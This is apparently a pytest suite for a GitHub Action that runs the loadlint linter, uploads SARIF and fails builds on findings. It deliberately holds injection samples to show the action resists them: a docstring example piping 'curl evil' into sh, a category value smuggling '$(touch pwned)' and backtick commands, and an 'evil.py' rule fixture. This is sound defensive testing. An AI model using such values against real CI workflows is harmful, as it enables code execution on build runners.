"""The GitHub action (action.yml): its shape, and its shell steps run here as the runner would run them."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from linter import sarif_gate
from tests.fixture_cases import FIXTURES, REPO
from tests.project_builder import write_files
from tests.sarif_schema import assert_valid_sarif

ACTION = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
STEPS = {step["name"]: step for step in ACTION["runs"]["steps"]}
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")


def test_is_a_composite_action_with_the_documented_inputs():
    assert ACTION["runs"]["using"] == "composite"
    assert {"paths", "config", "category", "fail-on", "version"} <= set(ACTION["inputs"])
    names = list(STEPS)
    upload = STEPS["Upload to code scanning"]
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert names.index("Run loadlint") < names.index("Upload to code scanning") < names.index("Fail on findings")


def test_inputs_reach_scripts_only_through_the_environment():
    """An expression inside `run:` is pasted into the script before bash reads it: a category of
    `"; curl evil | sh; "` would run. Through `env:` it stays a string."""
    for step in ACTION["runs"]["steps"]:
        if "run" in step:
            assert not EXPRESSION.search(step["run"]), step["name"]
            assert step["shell"] == "bash"


def test_loadlint_runs_with_sarif_output_and_exit_zero():
    script = STEPS["Run loadlint"]["run"]
    assert "--format sarif --output" in script and "--exit-zero" in script
    assert "sarif_file=loadlint.sarif" in script


def run_step(name: str, workspace: Path, inputs: dict[str, str]) -> tuple[subprocess.CompletedProcess, dict[str, str]]:
    """Run one `run:` step as a GitHub runner would: `env:` expressions evaluated, `bash -e -o pipefail`."""
    step = STEPS[name]
    values = {
        **{f"inputs.{key}": spec.get("default", "") for key, spec in ACTION["inputs"].items()},
        **{f"inputs.{key}": value for key, value in inputs.items()},
        "steps.install.outputs.python": sys.executable,
        "steps.check.outputs.sarif-file": "loadlint.sarif",
    }
    output_file = workspace.parent / f"{workspace.name}-github-output"
    output_file.write_text("", encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    # `-I` in the steps ignores PYTHONPATH: they run the installed loadlint (`pip install .`), as on a runner.
    env["PYTHONPATH"] = str(REPO)
    env["GITHUB_OUTPUT"] = str(output_file)
    for key, value in step.get("env", {}).items():
        env[key] = EXPRESSION.sub(lambda m: values[m.group(1)], value)
    script = workspace.parent / f"{workspace.name}-step.sh"
    script.write_text(step["run"], encoding="utf-8")
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", str(script)],
        cwd=workspace, env=env, capture_output=True, text=True, timeout=120,
    )
    outputs = dict(line.split("=", 1) for line in output_file.read_text(encoding="utf-8").splitlines() if "=" in line)
    return done, outputs


@pytest.fixture
def workspace(tmp_path):
    """A checkout with two apps, one with an error finding; `linter/` shadows loadlint's package name."""
    root = tmp_path / "workspace"
    write_files(
        root,
        {
            ".git/HEAD": "ref: refs/heads/main\n",
            "linter/__init__.py": "raise SystemExit('imported the checkout, not loadlint')\n",
            "api/package.json": '{"name": "api", "dependencies": {"jsonwebtoken": "^9.0.0"}}',
            "api/src/auth.js": "const jwt = require('jsonwebtoken');\nconst secret = process.env.JWT_SECRET || 'dev-secret';\nmodule.exports = (user) => jwt.sign(user, secret, { expiresIn: '1h' });\n",
            "web/package.json": '{"name": "web"}',
            "web/index.js": "export const answer = 42;\n",
        },
    )
    return root


def test_run_step_writes_sarif_for_the_given_paths_and_category(workspace):
    category = 'api "$(touch pwned)" `touch pwned2`'
    done, outputs = run_step("Run loadlint", workspace, {"paths": "api\nweb", "category": category})
    assert done.returncode == 0, done.stderr
    assert outputs == {"sarif-file": "loadlint.sarif"}
    log = json.loads((workspace / "loadlint.sarif").read_text(encoding="utf-8"))
    assert_valid_sarif(log)
    run = log["runs"][0]
    assert run["automationDetails"] == {"id": category + "/"}
    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]} == {"api/src/auth.js"}
    assert not list(workspace.glob("pwned*"))


def test_run_step_takes_paths_literally(workspace):
    done, _ = run_step("Run loadlint", workspace, {"paths": "*"})
    assert done.returncode == 2
    assert "path does not exist: *" in done.stderr


def test_run_step_never_imports_rules_named_by_the_checked_out_config(workspace, tmp_path):
    """On a pull request from a fork the checkout is the stranger's: its config must not run code in the job,
    through `python -I -m linter check` as the step runs it."""
    marker = tmp_path / "marker"
    write_files(
        workspace,
        {
            ".loadlint.toml": 'rules-dir = "tools/rules"\n',
            "tools/rules/x/evil.py": f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n",
        },
    )
    done, _ = run_step("Run loadlint", workspace, {})
    assert not marker.exists()
    assert done.returncode == 0, done.stderr
    log = json.loads((workspace / "loadlint.sarif").read_text(encoding="utf-8"))
    notices = [n["message"]["text"] for n in log["runs"][0]["invocations"][0]["toolExecutionNotifications"]]
    ignored = "key 'rules-dir' ignored: rules from a config file are loaded only with --trust-config-rules"
    assert f".loadlint.toml: {ignored}" in notices
    assert "--trust-config-rules" not in yaml.safe_dump(ACTION)


def test_gate_fails_after_the_upload_when_findings_reach_fail_on(workspace):
    assert run_step("Run loadlint", workspace, {})[0].returncode == 0
    failed, _ = run_step("Fail on findings", workspace, {"fail-on": "error"})
    assert failed.returncode == 1
    assert "api/src/auth.js:2  auth/secret-fallback" in failed.stdout
    assert "loadlint: 1 finding at or above error." in failed.stdout
    assert run_step("Fail on findings", workspace, {"fail-on": "none"})[0].returncode == 0


def test_gate_levels_suppressions_and_incomplete_runs(tmp_path):
    def result(level, suppressed=False):
        found = {"ruleId": "x/y", "level": level, "message": {"text": "m"}}
        return {**found, "suppressions": [{"kind": "inSource"}]} if suppressed else found

    log = {"runs": [{"results": [result("note"), result("error", suppressed=True)], "invocations": [{"executionSuccessful": True}]}]}
    assert sarif_gate.failing_results(log, "warning") == []
    assert len(sarif_gate.failing_results(log, "note")) == 1
    path = tmp_path / "log.sarif"
    path.write_text(json.dumps(log), encoding="utf-8")
    assert sarif_gate.main([str(path), "--fail-on", "error"]) == 0
    log["runs"][0]["invocations"] = [{"executionSuccessful": False, "toolExecutionNotifications": [{"message": {"text": "rule r failed"}}]}]
    path.write_text(json.dumps(log), encoding="utf-8")
    assert sarif_gate.main([str(path), "--fail-on", "error"]) == 2
    assert sarif_gate.main([str(tmp_path / "missing.sarif")]) == 2


def test_gate_on_the_demo_app(tmp_path):
    out = tmp_path / "demo.sarif"
    subprocess.run(
        [sys.executable, "-m", "linter", "check", str(FIXTURES / "demo"), "--format", "sarif", "-o", str(out), "--exit-zero"],
        cwd=REPO, check=True, capture_output=True, timeout=120,
    )
    log = json.loads(out.read_text(encoding="utf-8"))
    errors = [r for r in log["runs"][0]["results"] if r["level"] == "error"]
    assert sarif_gate.failing_results(log, "error") == errors and errors
    assert len(sarif_gate.failing_results(log, "note")) == len(log["runs"][0]["results"])


def test_readme_workflow_uses_this_action_with_the_permissions_it_needs():
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("### GitHub code scanning", 1)[1]
    workflow = yaml.safe_load(re.search(r"```yaml\n(.*?)```", section, re.DOTALL).group(1))
    (job,) = workflow["jobs"].values()
    assert job["permissions"]["security-events"] == "write"
    step = next(step for step in job["steps"] if step.get("uses", "").startswith("OWNER/loadlint@"))
    assert set(step.get("with", {})) <= set(ACTION["inputs"])
